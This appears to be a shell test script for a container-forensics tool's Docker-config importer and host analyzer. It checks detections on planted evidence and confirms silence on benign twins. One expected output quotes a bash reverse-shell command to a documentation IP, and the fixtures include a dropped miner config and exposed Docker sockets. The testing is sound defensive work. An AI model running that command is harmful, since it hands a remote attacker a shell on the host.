#!/usr/bin/env bash
# 0810-host: the dockerd importer and the host analyzer.
#
# daemon.json settings are the key/value pairs jq reads (lists one row per
# element); a systemd drop-in's ExecStart flags and /etc/default/docker's
# DOCKER_OPTS map to daemon.json's names. The host analyzer fires on the
# planted cases (tests/data/host, the overlay2 root of
# tests/data/runtime/make-overlay2.py, the real Kubernetes audit events of
# ../shared/fixtures/k8saudit) and stays quiet on their benign twins (a
# loopback or TLS-verified daemon with userns-remap, an ordinary log,
# podman's drift of data files, pods without host access, the control
# plane's own secret reads, an audit log of a successful local su). A
# hand-written sshd audit log gives the brute-force and remote-root
# login findings. The content rules (YARA) read a dropped miner
# configuration from the stored root.
set -u
. "$(dirname "$0")/../lib/lib.sh"

q() { "$DRYDOCK" query --format csv "$1" "$2" 2>/dev/null | tail -n +2 | sed 's/^"\(.*\)"$/\1/'; }
H=tests/data/host
C=$T/case.drydock
dk init "$C"
dk ingest "$C" "$H/daemon-exposed.json" "$H/docker-override.conf" "$H/docker.default"
expect_rc 0 "daemon.json, a systemd drop-in and /etc/default/docker import (sniffed)"
a=$(q "$C" "select id from artifacts where name = '$H/daemon-exposed.json'")
if command -v jq >/dev/null; then
	jq -r 'to_entries[] | .key as $k | (.value | if type == "array" then .[] else . end) | "\($k)=\(.)"' \
		"$H/daemon-exposed.json" >"$T/jq.daemon"
	q "$C" "select key || '=' || value from daemon_settings where artifact_id = $a order by seq" >"$T/dd.daemon"
	check "daemon.json: every setting as jq reads it" diff "$T/jq.daemon" "$T/dd.daemon"
fi
b=$(q "$C" "select id from artifacts where name = '$H/docker-override.conf'")
expect_eq "a drop-in: the reset, then ExecStart's flags under daemon.json's names" \
	"ExecStart-reset=|2 hosts=fd://|3 hosts=tcp://0.0.0.0:2376|3 containerd=/run/containerd/containerd.sock|3 insecure-registries=reg.internal:80|3" \
	"$(q "$C" "select key || '=' || value || '|' || line from daemon_settings where artifact_id = $b order by seq" | tr '\n' ' ' | sed 's/ $//')"
c=$(q "$C" "select id from artifacts where name = '$H/docker.default'")
expect_eq "/etc/default/docker: DOCKER_OPTS" \
	"dns=8.8.8.8 tlsverify=true hosts=tcp://0.0.0.0:2376 tlscacert=/etc/docker/ca.pem" \
	"$(q "$C" "select key || '=' || value from daemon_settings where artifact_id = $c order by seq" | tr '\n' ' ' | sed 's/ $//')"

# planted
/usr/bin/python3 tests/data/runtime/make-overlay2.py "$T/ov.tar"
dk ingest "$C" "$T/ov.tar" "$H"/c0ffee*-json.log "$H/k8s-exec.json" \
	tests/data/audit/sshd-auth.log
expect_rc 0 "the planted evidence imports"
if [ -d ../shared/fixtures/k8saudit ]; then
	for f in ../shared/fixtures/k8saudit/*.json; do
		"$DRYDOCK" -q ingest "$C" "$f" >/dev/null 2>&1
	done
fi
dk analyze "$C" --only host
expect_rc 0 "the host analyzer runs"
want="host.audit.login_bruteforce host.audit.root_login host.daemon.insecure_registry host.daemon.insecure_registry host.daemon.tcp_no_tls host.daemon.tcp_no_tls host.daemon.userns_off host.drift.accounts host.drift.binary_modified host.drift.exec_new host.drift.logs_removed host.drift.miner.config host.k8s.exec host.k8s.secret_read host.log.download_exec host.log.error_burst host.log.revshell host.log.shell_prompt"
[ -d ../shared/fixtures/k8saudit ] && want="$want host.k8s.privileged_pod host.k8s.privileged_pod host.k8s.role_binding host.k8s.sensitive_mount"
expect_eq "every planted case, once" "$(echo $want | tr ' ' '\n' | sort | tr '\n' ' ' | sed 's/ $//')" \
	"$(q "$C" "select rule from findings where analyzer = 'host' order by rule" | tr '\n' ' ' | sed 's/ $//')"
expect_eq "the exposed daemons: 2375 from daemon.json, 2376 from the drop-in (2376 with --tlsverify in DOCKER_OPTS is another file: flagged for its own file only)" \
	"tcp://0.0.0.0:2375 tcp://0.0.0.0:2376" \
	"$(q "$C" "select substr(title, 20, 18) from findings where rule = 'host.daemon.tcp_no_tls' order by title" | tr '\n' ' ' | sed 's/ $//')"
expect_eq "drift findings name their paths and point at the first drift row and the container" \
	"A /tmp/x.|drift|containers" \
	"$(q "$C" "select substr(f.detail, -9) || '|' || (select group_concat(relation, '|') from (select relation from finding_evidence e where e.finding_id = f.id order by ord)) from findings f where f.rule = 'host.drift.exec_new'")"
expect_eq "a content rule (YARA) over the added file's stored bytes: the miner configuration, its drift row" \
	"high|/tmp/.cfg.json|drift|$(q "$C" "select key from drift where path = '/tmp/.cfg.json'")" \
	"$(q "$C" "select f.severity || '|' || substr(f.title, instr(f.title, ': ') + 2) || '|' || e.relation || '|' || e.key from findings f join finding_evidence e on e.finding_id = f.id where f.rule = 'host.drift.miner.config'")"
expect_eq "log findings quote the first matching line" \
	"root@web-7d9:/app# bash -i >& /dev/tcp/203.0.113.9/4444 0>&1" \
	"$(q "$C" "select substr(detail, instr(detail, 'the first: ') + 11) from findings where rule = 'host.log.revshell'")"
expect_eq "the secret read by a user (not the controller's)" "Secrets read by dev-user" \
	"$(q "$C" "select title from findings where rule = 'host.k8s.secret_read'")"
expect_eq "ATT&CK ids" "T1098.006 T1609 T1133,T1609" \
	"$(q "$C" "select (select group_concat(value) from json_each(attack)) from findings where rule in ('host.k8s.exec', 'host.k8s.role_binding') or (rule = 'host.daemon.tcp_no_tls' and title like '%2375%') order by rule desc" | sed -n '1,3p' | tr '\n' ' ' | sed 's/ $//')"

# benign
B=$T/benign.drydock
dk init "$B"
dk ingest "$B" "$H/daemon-benign.json" "$H/docker.default" "$H"/d00d*-json.log \
	tests/data/audit/audit.log
expect_rc 0 "the benign evidence imports"
if [ -d ../shared/fixtures/k8saudit ]; then
	for f in create_nginx_pod_unsensitive_mount create_nginx_pod_nohostnetwork create_deployment create_secret create_service get_pod; do
		[ -f "../shared/fixtures/k8saudit/$f.json" ] && "$DRYDOCK" -q ingest "$B" "../shared/fixtures/k8saudit/$f.json" >/dev/null 2>&1
	done
fi
dk analyze "$B" --only host
expect_rc 0 "the host analyzer runs on benign evidence"
expect_eq "and stays quiet" "0" "$(q "$B" "select count(*) from findings where analyzer = 'host'")"
t_sanitized && fail "sanitizer report"
t_done
